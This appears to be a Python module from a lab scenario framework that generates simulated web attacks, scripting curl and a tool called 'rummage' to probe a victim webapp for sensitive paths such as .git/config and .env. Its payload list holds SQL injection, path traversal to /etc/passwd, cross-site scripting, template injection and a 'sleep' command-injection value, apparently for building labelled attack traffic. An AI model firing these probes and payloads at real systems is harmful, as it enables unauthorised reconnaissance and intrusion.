# SPDX-License-Identifier: Apache-2.0
"""Paths and odd parameters tried by curl and the program `rummage`: few kept connections or one for each request."""

from __future__ import annotations

from random import Random
from shlex import quote

from lab.scenarios.attack.targets import attackers, ip_version, victim_with
from lab.scenarios.scenario import TCP, Attack, AttackDraft, Leg, Scene

_TRIES = (
    "admin",
    "login.php",
    "wp-admin",
    ".git/config",
    ".env",
    "backup.zip",
    "phpmyadmin",
    "server-status",
    "api/v1/users",
    "config.old",
    "test",
    "shell.jsp",
)


_ODD = (
    "%27%20OR%201=1--",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "1%20UNION%20SELECT%20NULL",
    "%7B%7B7*7%7D%7D",
    "1;sleep%205",
)


def web_curl(scene: Scene, chance: Random) -> AttackDraft | None:
    """A list of paths or of odd parameters by curl: down one connection, or a process for each."""
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls = ip_version(chance), chance.random() < 0.4
    port = scene.network.tls_port if tls else scene.network.web_port
    way, count = chance.choice(("paths", "parameters")), chance.randint(60, 400)

    def one() -> str:
        if way == "paths":
            return "/".join(
                f"{chance.choice(_TRIES)}{chance.choice(('', chance.randrange(99)))}"
                for _ in range(chance.randint(1, 2))
            )
        return f"app/{chance.choice(('item?id=', 'search?q='))}{chance.choice(_ODD) * min(int(chance.paretovariate(1)), 15)}"

    urls = [scene.url(victim, tls, f"/{one()}", version) for _ in range(count)]
    quiet, kept = "-g -k -s -o /dev/null --max-time 10", chance.random() < 0.5
    if kept:
        rate = chance.choice((100, 600, 6000))
        script = f"curl --rate {rate}/m -g -k -s --max-time 55 {' '.join(f'-o /dev/null {quote(u)}' for u in urls)}"
        technique = f"{way}; one connection; n={count}; rate={rate}/m"
    else:
        width, pause = chance.choice(((8, 0), (2, 0), (1, 0.1), (1, 0.6)))
        names = "\n".join(urls)
        script = f"xargs -P {width} -n 1 bash -c 'curl {quiet} \"$0\"; sleep {pause}' <<'END'\n{names}\nEND"
        technique = f"{way}; n={count}; at once={width}; pause={pause}"
    return AttackDraft("web_attack", "curl", technique, script, 60, (scene.leg(victim, version, TCP, port),))


def web_rummage(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls, seconds = ip_version(chance), chance.random() < 0.45, chance.randint(20, 70)
    own, source = attackers(scene, version, chance)
    port, way = scene.network.tls_port if tls else scene.network.web_port, chance.choice(("search", "inject", "both"))
    threads, pause = chance.choice(((1, 0.0), (1, 0.15), (2, 0.05), (4, 0.5), (10, 0.1), (1, 1.0)))
    words = (
        f"{way} {scene.address(victim, version)} {port} {'--tls' if tls else ''} {source} --threads {threads} --pause {pause} --jitter 0.6 "
        f"--per-connection {chance.choice((1, 20, 1000, 1000))} --count {chance.randint(80, 900)} --seconds {seconds}"
    )
    return AttackDraft(
        "web_attack",
        "rummage",
        f"{way}; threads={threads}; pause={pause}",
        scene.program("rummage", chance, words),
        seconds + 8,
        (Leg(own, scene.address(victim, version), TCP, port),),
    )


ATTACKS = (
    Attack("curl-web", web_curl, weight=3, group="web_attack"),
    Attack("rummage", web_rummage, weight=4, group="web_attack"),
)
